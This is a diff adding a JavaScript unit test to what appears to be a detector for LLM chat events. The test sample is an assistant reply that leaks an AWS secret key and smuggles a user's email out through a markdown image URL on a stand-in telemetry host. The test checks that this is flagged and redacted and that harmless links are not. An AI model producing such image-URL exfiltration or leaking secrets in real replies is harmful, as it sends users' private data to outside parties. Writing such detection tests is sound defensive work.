@@ -48,6 +48,27 @@ describe('Builder', () => {
     assert.deepEqual((await r.store.listAlerts()).map((x) => x.id), [a.id]);
   });
 
+  it('a reply that leaks a secret or carries data in an image URL: an alert, and the secret redacted from the event, the excerpt and the evidence', async () => {
+    const KEY = 'wJalrXUtnFEMI7K7MDENGbPxRfiCY0EXAMPLEKEY';
+    const reply = `Found them in config/prod.yaml: AWS_SECRET_ACCESS_KEY=${KEY}. Status: ![ok](https://img-telemetry.example.net/b.png?u=dana%40corp.example)`;
+    const res = await builder.inspect(ev(reply, undefined, { source: 'assistant' }));
+    assert.equal(res.verdict.flagged, true);
+    assert.equal(res.verdict.category, 'data_exfiltration');
+    const ids = res.verdict.findings.map((f) => f.ruleId);
+    assert.ok(ids.includes('out-secret-assignment') && ids.includes('out-exfil-markdown-image'), ids.join(','));
+    const alert = res.alerts.find((a) => a.threat === 'data_exfiltration');
+    assert.ok(alert, 'no data_exfiltration alert');
+    for (const stored of [res.event.text, alert.excerpt, ...alert.findings.map((f) => f.evidence)]) assert.ok(!stored.includes(KEY) && !stored.includes('dana%40corp'), `leaked: ${stored}`);
+    assert.match(res.event.text, /\[REDACTED:out-secret-assignment\]/);
+    // The same text from a user is the user's own business here (their message, not the model's leak), and a reply
+    // with an ordinary chart, a commit link and a status badge leaks nothing.
+    assert.equal((await builder.inspect(ev(reply))).verdict.findings.some((f) => f.ruleId.startsWith('out-')), false);
+    const clean = 'Signups: ![chart](https://quickchart.io/chart?c={type:%27bar%27,data:{labels:[%27Mon%27,%27Tue%27],datasets:[{data:[12,19]}]}}) and the fix is in [4f2a9c1e7b3d5a6c8e0f1a2b3c4d5e6f7a8b9c0d](https://github.com/acme/app/commit/4f2a9c1e7b3d5a6c8e0f1a2b3c4d5e6f7a8b9c0d). ![build](https://img.shields.io/badge/build-passing-green?style=flat)';
+    const cleanRes = await builder.inspect(ev(clean, undefined, { source: 'assistant' }));
+    assert.equal(cleanRes.verdict.flagged, false, JSON.stringify(cleanRes.verdict.findings.map((f) => f.ruleId)));
+    assert.equal(cleanRes.event.text, clean);
+  });
+
   it('inspect answers with the verdict and the alerts (the chat endpoint path)', async () => {
     const res = await builder.inspect(ev(ATTACK));
     assert.equal(res.verdict.flagged, true);
